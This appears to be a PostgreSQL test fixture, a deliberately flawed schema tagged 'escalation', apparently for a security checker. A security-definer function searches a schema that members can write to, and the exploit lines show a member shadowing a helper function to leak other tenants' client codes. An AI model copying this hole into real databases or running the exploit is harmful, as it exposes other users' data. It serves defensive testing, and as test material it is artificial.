-- mutant: A definer's search path has a schema in which members may create
-- base: flows
-- family: escalation
-- leaks: what the owner may see
create schema scratch;
grant usage, create on schema scratch to authenticated;
create function flows.status_label(code text) returns text
language plpgsql stable security definer set search_path = scratch, pg_catalog, pg_temp
as $$ begin return label_of(code); end $$;
create function scratch.label_of(code varchar) returns text language sql immutable set search_path = '' as $$ select upper(code) $$;
revoke all on function flows.status_label(text) from public;
grant execute on function flows.status_label(text) to authenticated;

-- exploit as authenticated claims {"sub": "{{user_a}}", "role": "authenticated", "app_metadata": {"client_id": "{{a}}", "client_role": "member"}}
create function scratch.label_of(code text) returns text language sql stable set search_path = '' as 'select string_agg(client_code, '','') from flows.clients';
select l from flows.status_label('x') l where l like '%canary-globex%';
